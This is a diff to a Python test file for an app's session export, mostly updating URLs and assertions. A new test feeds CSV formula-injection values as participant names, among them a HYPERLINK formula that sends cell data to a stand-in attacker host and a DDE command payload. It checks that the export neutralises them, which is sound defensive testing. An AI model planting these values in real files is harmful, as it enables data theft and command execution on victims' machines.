@@ -4,8 +4,10 @@ import csv
 import io
 import zipfile
 
+from app.exports import cell
+from tests.api.test_join import new_session
 from tests.api.test_meeting_api import browser_for, held, meeting  # noqa: F401  (the fixture)
-from tests.support import send, timeless
+from tests.support import join, send, timeless
 
 
 def play_a_little(meeting, trainer):  # noqa: F811
@@ -32,8 +34,8 @@ def play_a_little(meeting, trainer):  # noqa: F811
 
 def test_an_exported_session_imports_back_to_the_same_state(meeting, trainer):  # noqa: F811
     code = play_a_little(meeting, trainer)
-    exported = trainer.get(f"/api/sessions/{code}/export.json")
-    assert exported.headers["content-disposition"] == f'attachment; filename="session-{code}.json"'
+    exported = trainer.get(f"/api/sessions/{code}/export.json?full=1")
+    assert exported.headers["content-disposition"] == f'attachment; filename="session-{code}-full.json"'
     answer = trainer.post(
         "/api/sessions/import", content=exported.content, headers={"content-type": "application/json"}
     )
@@ -49,17 +51,17 @@ def test_an_exported_session_imports_back_to_the_same_state(meeting, trainer):  
 
 def test_a_broken_import_is_refused_clearly(trainer):
     bad = trainer.post("/api/sessions/import", content=b"{not json", headers={"content-type": "application/json"})
-    assert bad.status_code == 422 and bad.json()["detail"] == "This is not a Neighbourhood plc session export."
+    assert bad.status_code == 422 and bad.json()["detail"].startswith("This is not a Neighbourhood plc session export.")
     cut = trainer.post(
         "/api/sessions/import",
         json={"format": "neighbourhood-plc-session", "format_version": 1, "pack": "{}", "events": [{"seq": 2}]},
     )
-    assert cut.status_code == 422 and "could not be read whole" in cut.json()["detail"]
+    assert cut.status_code == 422 and "could not be read" in cut.json()["detail"]
 
 
 def test_csv_files_hold_the_record(meeting, trainer):  # noqa: F811
     code = play_a_little(meeting, trainer)
-    response = trainer.get(f"/api/sessions/{code}/export.zip")
+    response = trainer.get(f"/api/sessions/{code}/export.zip?full=1")
     archive = zipfile.ZipFile(io.BytesIO(response.content))
     names = {n.split("/", 1)[1] for n in archive.namelist()}
     assert names == {
@@ -71,7 +73,7 @@ def test_csv_files_hold_the_record(meeting, trainer):  # noqa: F811
         "speaking.csv",
         "minutes.html",
     }
-    rows = lambda name: list(csv.DictReader(io.StringIO(archive.read(f"{code}/{name}").decode())))  # noqa: E731
+    rows = lambda name: list(csv.DictReader(io.StringIO(archive.read(f"{code}/{name}").decode())))
     assert [r["name"] for r in rows("seats.csv")] == ["Asha", "Ben", "Cai", "Dee"]
     assert rows("motions.csv")[0]["result"] == "carried"
     assert sorted(r["choice"] for r in rows("votes.csv")) == ["against", "for"]
@@ -102,3 +104,22 @@ def test_the_minutes_carry_the_outcomes_once_time_has_moved_on(meeting, trainer)
     assert [o["label"] for o in record["outcomes"]] == ["After 1 year"]
     page = trainer.get(f"/trainer/{code}/minutes").text
     assert "Outcomes after 1 year" in page and "dividend stood at" in page
+
+
+def test_no_csv_cell_can_start_a_formula(trainer, participant):
+    code = new_session(trainer)
+    crafty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    for name in crafty:
+        join(participant(), code, name, "council-housing")
+    archive = zipfile.ZipFile(io.BytesIO(trainer.get(f"/api/sessions/{code}/export.zip?full=1").content))
+    names = [row["name"] for row in csv.DictReader(io.StringIO(archive.read(f"{code}/seats.csv").decode()))]
+    assert names == ["'" + name for name in crafty]
+    for name in archive.namelist():
+        if name.endswith(".csv"):
+            for row in csv.reader(io.StringIO(archive.read(name).decode())):
+                assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row), row
+
+
+def test_tabs_and_carriage_returns_cannot_start_a_cell_either():
+    assert cell("\t=1+1") == "'\t=1+1" and cell("\r=1") == "'\r=1"
+    assert cell("Fund damp repairs") == "Fund damp repairs" and cell(-15000) == -15000
